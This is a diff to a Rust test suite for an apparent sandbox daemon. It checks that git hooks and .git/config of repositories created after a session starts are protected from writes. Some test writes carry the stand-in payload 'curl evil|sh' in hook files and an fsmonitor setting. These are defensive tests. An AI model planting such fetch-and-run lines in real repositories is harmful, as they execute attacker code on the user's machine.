@@ -454,6 +454,25 @@ impl Red {
         }
     }
 
+    /// Waits until the daemon has read the changed configuration at least once and then no
+    /// more for a second (what a run of changes leads to, read at most every 500 ms).
+    fn wait_rereads_settled(&self) {
+        let count = || std::fs::read_to_string(self.dir.join("audit.jsonl")).unwrap_or_default().lines().filter(|l| l.contains("\"config_reread\"")).count();
+        let start = Instant::now();
+        let (mut seen, mut since) = (0, Instant::now());
+        loop {
+            let now = count();
+            if now != seen {
+                (seen, since) = (now, Instant::now());
+            }
+            if seen > 0 && since.elapsed() > Duration::from_secs(1) {
+                return;
+            }
+            assert!(start.elapsed() < Duration::from_secs(60), "the daemon did not read the changed configuration ({seen} readings)");
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+
     /// The session's layer directory (beside its scratch directory).
     fn layers(&self) -> PathBuf {
         PathBuf::from(format!("{}.layers", self.scratch.display()))
@@ -6684,26 +6703,41 @@ fn writes_hooks_the_users_configuration_names_after_the_session_started() {
 /// Writes the hooks of a repository the user clones into a folder of the session's while
 /// the session runs (its `.git/config` names `githooks/` as `core.hooksPath`). Principle:
 /// what a never place names as code is protected as long as the configuration names it. Why
-/// it gets out: the git directories of the roots are found by a scan when the session starts
-/// (and their `config` files are watched); a repository made later is found by no scan, and
-/// the kernel's `**/.git/...` patterns protect its `.git/config` by name, not the folder it
-/// names. Control: a file beside it.
-/// Open on 6.1 and 6.12 (the later repository's `.git/config` itself is refused).
+/// it might get out: the git directories of the roots and the home are found by a scan when
+/// the session starts (and their `config` files are watched); the kernel's `**/.git/...`
+/// patterns protect a later repository's `.git/config` by name, not the folder it names.
+/// Control: a file beside it.
+/// Got out on 6.1 and 6.12; closed: the folders the scans walked are watched for git's
+/// markers, and a repository made in one is read as the scans read it (`Watch::Tree`).
 #[test]
-#[ignore = "open route: a repository the user makes in a session's root while the session runs is found by no scan; the folder its .git/config names as hooksPath is protected from the next session on"]
 fn writes_hooks_of_a_repository_the_user_clones_after_the_session_started() {
     let mut c = Cleanup::default();
     let top = home_folder(&mut c, "laterepo");
     let mut red = Red::start("laterepo");
+    let ws = red.ws.clone();
     red.grant(&top, Scope::Subtree, &Access::ALL);
-    // The user, outside the session, after it started.
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    // The user, outside the session, after it started: a repository in a granted home
+    // folder, and one cloned two folders down into the session's root.
     let proj = top.join("proj");
     make(&proj.join(".git/HEAD"), Some("ref: refs/heads/main\n"));
     make(&proj.join(".git/config"), Some("[core]\n\trepositoryformatversion = 0\n\thooksPath = githooks\n"));
     make(&proj.join("githooks/pre-commit"), Some("#!/bin/sh\n"));
-    let r = red.gated(|| vec![create(&top.join("notes.txt"), "x"), append(&proj.join("githooks/pre-commit"), "curl evil|sh\n"), append(&proj.join(".git/config"), "\tfsmonitor = curl evil|sh\n")]);
+    let cloned = ws.join("vendor/lib");
+    make(&cloned.join(".git/HEAD"), Some("ref: refs/heads/main\n"));
+    make(&cloned.join(".git/config"), Some("[core]\n\trepositoryformatversion = 0\n\thooksPath = team-hooks\n"));
+    make(&cloned.join("team-hooks/pre-push"), Some("#!/bin/sh\n"));
+    red.wait_rereads_settled();
+    let r = red.gated(|| {
+        vec![
+            create(&top.join("notes.txt"), "x"),
+            append(&proj.join("githooks/pre-commit"), "curl evil|sh\n"),
+            append(&proj.join(".git/config"), "\tfsmonitor = curl evil|sh\n"),
+            create(&cloned.join("team-hooks/pre-commit"), "#!/bin/sh\ncurl evil|sh\n"),
+        ]
+    });
     assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
-    let open = not_refused(&["a hook of a later repository's hooksPath", "the later repository's .git/config"], &r[1..]);
+    let open = not_refused(&["a hook of a later repository's hooksPath", "the later repository's .git/config", "a hook of the hooksPath of a repository cloned into the root"], &r[1..]);
     assert!(open.is_empty(), "hooks of a repository made after the session started, written: {open:?}");
 }
 
